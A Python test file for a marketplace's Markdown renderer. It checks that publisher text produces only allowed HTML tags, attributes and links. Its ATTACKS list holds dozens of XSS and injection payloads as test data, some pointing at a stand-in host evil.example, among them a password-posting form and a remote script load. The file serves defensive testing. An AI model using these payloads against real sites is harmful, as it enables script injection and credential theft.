"""Markdown of publishers: what is shown of it, and that nothing else gets through."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from marketplace.lib import markdown

TAGS = {
    *(
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "br",
        "em",
        "strong",
        "s",
        "code",
        "pre",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "div", "span", "button", "a", "img"),
}
# The values that an attribute may have; None: any.
ATTRIBUTES: dict[str, set[str] | None] = {
    "href": None,
    "src": None,
    "alt": None,
    "title": None,
    "id": None,
    "rel": {"nofollow noopener ugc"},
    "class": {"code", "code-bar", "code-copy", "table-wrap", "table", "right", "center"},
    "type": {"button"},
    "data-copy": {""},
    "aria-live": {"polite"},
    "tabindex": {"0"},
    "role": {"region"},
    "aria-label": {"Table"},
    "scope": {"col"},
    "start": None,
    "loading": {"lazy"},
    "decoding": {"async"},
    "referrerpolicy": {"no-referrer"},
}


class Judge(HTMLParser):
    """Reads HTML as a browser would, and complains of what no text may bring."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.seen: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        assert tag in TAGS, tag
        for name, value in given.items():
            assert name in ATTRIBUTES, (tag, name)
            allowed = ATTRIBUTES[name]
            assert allowed is None or value in allowed, (tag, name, value)
        if "href" in given:
            assert tag == "a"
            inside = given["href"].startswith("#readme-")
            assert inside or given["href"].lower().startswith(("https://", "http://", "mailto:")), given
            assert inside or given["rel"] == "nofollow noopener ugc"
        if "src" in given:
            assert tag == "img"
            assert given["src"].lower().startswith("https://"), given
        if "id" in given:
            assert given["id"].startswith("readme-")
        self.seen.append((tag, given))
        if tag not in {"br", "hr", "img"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def judged(text: str) -> Judge:
    judge = Judge()
    judge.feed(markdown.render(text, anchors="readme-").html)
    judge.close()
    assert judge.open == []
    return judge


ATTACKS = [
    "<script>alert(1)</script>",
    "before <script>alert(1)</script> after",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "text <img src='https://a.example/x.png' onload=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">here</a>',
    "<style>body { display: none }</style>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](/accounts/logout/)",
    "[a](../admin)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![a](http://a.example/x.png)",
    "![a](//a.example/x.png)",
    "![a](data:image/png;base64,AAAA)",
    "![a](javascript:alert(1))",
    "![a](/v1/files)",
    '![a" onerror="alert(1)](https://a.example/x.png)',
    "![a](https://a.example/x.png 'x\" onerror=\"alert(1)')",
    '[a](https://a.example/" onclick="alert(1))',
    "[a](https://a.example/ 'x\" onclick=\"alert(1)')",
    '[a](#" onclick="alert(1))',
    'https://a.example/"onclick="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    '```py" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    '# <script>alert(1)</script>" onclick="alert(1)',
    "| <script>alert(1)</script> | b |\n|:-:|--:|\n| [a](javascript:x) | `|` |",
    "[![a](javascript:alert(1))](javascript:alert(1))",
    "[![a](https://a.example/x.png)](javascript:alert(1))",
    "> <div onclick=alert(1)>\n- <script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script\x00>alert(1)</script>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_runs_leads_astray_or_loads_from_elsewhere_gets_through(text: str) -> None:
    judge = judged(text)
    assert "script" not in {tag for tag, _ in judge.seen}


PIECES = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from(
        ["\n", "\n\n", "# ", "- ", "> ", "```", "`", "**", "_", "~~", "[", "](", ")", "![", "<", ">", "|", "\\"]
    ),
    st.sampled_from(
        ["javascript:", "https://", "data:", '"', "'", "&", "&#x3c;", "<!--", "-->", "</", "[x]: ", "|-|-|\n"]
    ),
    st.text("ab \t\x00é=:;({", max_size=5),
)


@settings(max_examples=50, deadline=None)
@given(st.lists(PIECES, max_size=20).map("".join))
def test_nothing_gets_through_however_it_is_put_together(text: str) -> None:
    judged(text)
    assert "\n" not in markdown.words(text)


def test_what_markdown_has_is_shown() -> None:
    shown = markdown.render(
        "# Title\n\n## Use\n\n1. *a*\n2. **b**\n\n> c\n\n"
        "```python\nx < 1\n```\n\n| n | v |\n|---|--:|\n| `k` | ~~2~~ |\n"
    ).html
    for part in (
        "<h2>Title</h2>",
        "<h3>Use</h3>",
        "<ol>\n<li><em>a</em></li>\n<li><strong>b</strong></li>\n</ol>",
        "<blockquote>\n<p>c</p>\n</blockquote>",
        "<span>python</span>",
        "<code>x &lt; 1</code>",
        '<th scope="col" class="right">v</th>',
        '<td class="right"><s>2</s></td>',
    ):
        assert part in shown


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("[a](https://b.example/c?d=1&e=2)", [("https://b.example/c?d=1&amp;e=2", "a")]),
        ("see https://b.example/c.", [("https://b.example/c", "https://b.example/c")]),
        ("(https://b.example/c)", [("https://b.example/c", "https://b.example/c")]),
        ("https://b.example/c_(d)", [("https://b.example/c_(d)", "https://b.example/c_(d)")]),
        ("<me@b.example>", [("mailto:me@b.example", "me@b.example")]),
        ("`https://b.example`", []),
        ("https://b.example  \nnext\n\n---", [("https://b.example", "https://b.example")]),
        ("[guide](docs/guide.md)", []),
    ],
)
def test_links_lead_where_they_say_and_vouch_for_nothing(text: str, links: list[tuple[str, str]]) -> None:
    shown = markdown.render(text).html
    assert shown.count("<a ") == len(links)
    for href, told in links:
        assert f'<a href="{href}" rel="nofollow noopener ugc">{told}</a>' in shown


def test_what_leads_nowhere_leaves_its_words() -> None:
    assert markdown.render("[the guide](docs/guide.md) ![a map](map.png)").html == "<p>the guide a map</p>\n"
    assert markdown.render("<center>Hello <b>you</b></center>").html == "<p>Hello  you</p>\n"


def test_a_table_of_contents_leads_to_the_headings() -> None:
    text = "[Use](#how-its-used)\n\n## How it's used\n\n## How it's used"
    shown = markdown.render(text, anchors="readme-").html
    assert '<a href="#readme-how-its-used">Use</a>' in shown
    assert '<h2 id="readme-how-its-used">' in shown
    assert '<h2 id="readme-how-its-used-1">' in shown


def test_pictures_come_by_https_and_learn_nothing_of_who_looks() -> None:
    text = "![a *map*](https://b.example/map.png)"
    shown = markdown.render(text)
    assert shown.has_pictures
    assert '<img src="https://b.example/map.png" alt="a map" loading="lazy"' in shown.html
    assert 'referrerpolicy="no-referrer"' in shown.html
    assert markdown.render(text, pictures=False) == markdown.Document("<p>a map</p>\n", has_pictures=False)
    assert not markdown.render("![a](http://b.example/map.png)").has_pictures


def test_words_are_all_that_a_list_shows() -> None:
    text = (
        "# Title\n\n**Bold** [link](https://b.example) `code`\n\n![map](https://b.example/m.png)\n\n- one\n- <b>two</b>"
    )
    assert markdown.words(text) == "Title Bold link code one two"
    assert len(markdown.words("a line of words\n" * 1_000)) <= markdown.MOST_IN_A_LIST


def test_lists_read_no_tables_whose_cells_would_be_many() -> None:
    wide = "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "|\n" * 40
    assert markdown.render(wide).html.count("<td>") == 4_000
    assert markdown.words(wide).count("a") == 100


def test_a_text_that_is_too_long_says_that_it_ends() -> None:
    shown = markdown.render("a line of words\n" * 20_000).html
    assert shown.endswith("<em>The rest is too long to show here.</em></p>\n")
    assert len(shown) < markdown.MOST_CHARACTERS + 100
